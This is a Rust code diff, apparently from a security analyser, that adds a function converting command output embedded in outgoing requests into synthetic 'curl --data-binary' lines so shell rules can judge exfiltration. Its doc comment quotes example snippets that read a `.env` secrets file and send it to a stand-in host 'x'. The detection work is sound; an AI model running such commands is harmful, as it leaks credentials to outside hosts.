@@ -120,7 +120,59 @@ fn apply(reading: &Reading, origin: Origin, cmd: &Command, scan: &mut Scan<'_>) 
         sent.extend(piped_files(cmd, scan));
     }
     network(reading, &sent, who, scan);
+    lines.extend(outputs_sent(reading));
     lines
+}
+
+/// What a command the code runs prints, sent by a request of the same code (`get("https://x/?d="
+/// . `cat .env`)`, `urlopen(url + check_output(['cat', '.env']).hex())`): a line of its own,
+/// the command piped to a request to the same host, for the shell's rules to judge what
+/// leaves.
+fn outputs_sent(reading: &Reading) -> Vec<String> {
+    let mut lines = Vec::new();
+    for request in &reading.requests {
+        let Some(host) = request.host.as_deref() else {
+            continue;
+        };
+        let in_body = request
+            .files
+            .iter()
+            .flatten()
+            .filter_map(|f| output_line(f));
+        let in_address = request
+            .url
+            .match_indices(OUTPUT_IN_ADDRESS)
+            .filter_map(|(at, _)| request.url.get(at + OUTPUT_IN_ADDRESS.len() - 2..))
+            .filter_map(output_line);
+        for line in in_body.chain(in_address) {
+            if lines.len() < 8 {
+                lines.push(format!("{line} | curl -s --data-binary @- https://{host}/"));
+            }
+        }
+    }
+    lines
+}
+
+/// How a command's output put into an address is named in it (read.rs's `data of FILE`).
+const OUTPUT_IN_ADDRESS: &str = "data of $(";
+
+/// The command line of a command's output, `$(LINE)` (up to its balanced `)`).
+fn output_line(word: &str) -> Option<&str> {
+    let rest = word.strip_prefix("$(")?;
+    let mut depth = 1usize;
+    for (at, c) in rest.char_indices() {
+        match c {
+            '(' => depth += 1,
+            ')' => {
+                depth -= 1;
+                if depth == 0 {
+                    return rest.get(..at).filter(|line| !line.trim().is_empty());
+                }
+            }
+            _ => {}
+        }
+    }
+    None
 }
 
 /// The files a command's standard input holds: its `<` redirect, or what the stages before
